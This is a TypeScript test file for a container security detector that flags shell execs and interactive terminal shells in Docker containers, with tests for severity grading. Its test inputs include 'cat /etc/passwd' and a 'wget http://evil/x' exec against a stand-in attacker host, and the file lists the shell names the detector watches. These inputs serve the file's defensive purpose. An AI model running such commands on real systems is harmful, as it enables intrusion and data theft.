import { describe, expect, it } from "vitest";
import type { EngineEvent } from "../types.js";
import { container, fakeClock, proc } from "./detectors.testutil.js";
import { createShellDetector } from "./shell.js";

/** Docker's exec events after normalisation (engine-event.ts puts the appended command in execCommand) */
function exec(action: string, command: string, attrs: Record<string, string> = {}): EngineEvent {
  return {
    type: "container",
    action,
    id: "c1",
    attributes: { execID: "e1", name: "web", image: "nginx:1", execCommand: command, ...attrs },
    time: 1_767_225_600,
  };
}

describe("shell.exec from engine events", () => {
  it("an exec of bash with a tty as root is high; exec_create + exec_start of one exec raise once", () => {
    const clock = fakeClock();
    const d = createShellDetector();
    const c = container("web");
    const first = d.onEvent!(exec("exec_create", "bash", { tty: "true" }), c, clock.ctx);
    expect(first).toHaveLength(1);
    expect(first[0]).toMatchObject({ detector: "shell", id: "shell.exec", severity: "high" });
    expect(first[0]!.evidence).toBe("exec_create bash (with a terminal, as root (image default))");
    expect(first[0]!.details).toMatchObject({ execId: "e1", command: "bash", tty: true, user: "root" });
    expect(d.onEvent!(exec("exec_start", "bash", { tty: "true" }), c, clock.ctx)).toEqual([]);
    // a second exec is a new one
    expect(d.onEvent!(exec("exec_start", "bash", { execID: "e2" }), c, clock.ctx)).toHaveLength(1);
  });

  it("every shell in the list counts, by path too; other programs do not", () => {
    const d = createShellDetector();
    const c = container("web");
    const { ctx } = fakeClock();
    let n = 0;
    for (const sh of ["ash", "/bin/bash", "sh", "dash", "/usr/bin/zsh", "ksh", "csh", "tcsh", "fish"])
      expect(d.onEvent!(exec("exec_start", sh, { execID: `x${n++}` }), c, ctx), sh).toHaveLength(1);
    for (const other of ["ls -la", "cat /etc/passwd", "nginx -s reload", "bashful", "/bin/shx"])
      expect(d.onEvent!(exec("exec_start", other, { execID: `y${n++}` }), c, ctx), other).toEqual([]);
  });

  it("severity by terminal and user: non-root tty medium, `sh -c` without tty as non-root low", () => {
    const { ctx } = fakeClock();
    const c = container("web", { Config: { User: "1000" } });
    const sev = (attrs: Record<string, string>, cmd = "sh") =>
      createShellDetector().onEvent!(exec("exec_start", cmd, attrs), c, ctx)[0]!.severity;
    expect(sev({ tty: "true" })).toBe("medium");
    expect(sev({ tty: "true", user: "root" })).toBe("high");
    expect(sev({ tty: "false" }, "sh -c date")).toBe("low");
    expect(sev({ tty: "false", user: "0" })).toBe("medium");
    expect(sev({ privileged: "true" }, "sh -c id")).toBe("high");
  });

  it("the container's own health check exec is not a shell into it; non-exec events and unknown containers are ignored", () => {
    const { ctx } = fakeClock();
    const d = createShellDetector();
    const c = container("web", {
      Config: { Healthcheck: { Test: ["CMD-SHELL", "wget -q -O- http://localhost/"] } },
    });
    expect(d.onEvent!(exec("exec_start", "/bin/sh -c wget -q -O- http://localhost/"), c, ctx)).toEqual([]);
    expect(d.onEvent!(exec("exec_start", "/bin/sh -c wget http://evil/x"), c, ctx)).toHaveLength(1);
    expect(d.onEvent!({ ...exec("start", "sh"), attributes: {} }, c, ctx)).toEqual([]);
    expect(d.onEvent!(exec("exec_start", "sh"), undefined, ctx)).toEqual([]);
    // podman's exec events name no command: nothing to judge from the event alone
    expect(d.onEvent!({ ...exec("exec_start", ""), attributes: { name: "web" } }, c, ctx)).toEqual([]);
  });
});

describe("shell.interactive from process samples (Falco's Terminal shell in container)", () => {
  const sample = (processes: ReturnType<typeof proc>[]) => ({ at: 0, processes });

  it("a root shell with a tty whose parent is outside the container is high, once per process", () => {
    const { ctx } = fakeClock();
    const d = createShellDetector();
    const c = container("web");
    const procs = [
      proc(100, "nginx", ["nginx", "-g", "daemon off;"], { ppid: 90 }),
      proc(200, "bash", ["bash"], { ppid: 199, tty: true, uid: 0 }),
    ];
    const ds = d.onSample!(c, sample(procs), ctx);
    expect(ds).toHaveLength(1);
    expect(ds[0]).toMatchObject({ id: "shell.interactive", severity: "high", details: { pid: 200, uid: 0 } });
    expect(ds[0]!.evidence).toMatch(/outside the container/);
    expect(d.onSample!(c, sample(procs), ctx)).toEqual([]);
    d.forget!(c.ref.id);
    expect(d.onSample!(c, sample(procs), ctx)).toHaveLength(1);
  });

  it("a runtime parent inside the list (runc:[1:CHILD]) counts; a non-root login shell is medium", () => {
    const { ctx } = fakeClock();
    const ds = createShellDetector().onSample!(
      container("web"),
      sample([
        proc(10, "runc:[1:CHILD]", [], { ppid: 5 }),
        proc(11, "sh", ["-sh"], { ppid: 10, tty: true, uid: 1000 }),
      ]),
      ctx,
    );
    expect(ds.map((d) => [d.id, d.severity])).toEqual([["shell.interactive", "medium"]]);
  });

  it("no tty, a shell spawned by the app, or a non-shell with a tty is not a terminal shell", () => {
    const { ctx } = fakeClock();
    const d = createShellDetector();
    const procs = [
      proc(1, "sh", ["sh", "-c", "run.sh"], { ppid: 0, tty: false }),
      proc(2, "node", ["node", "app.js"], { ppid: 0 }),
      proc(3, "sh", ["sh", "-c", "convert x.png"], { ppid: 2, tty: true }),
      proc(4, "top", ["top"], { ppid: 0, tty: true }),
    ];
    expect(d.onSample!(container("web"), sample(procs), ctx)).toEqual([]);
  });
});
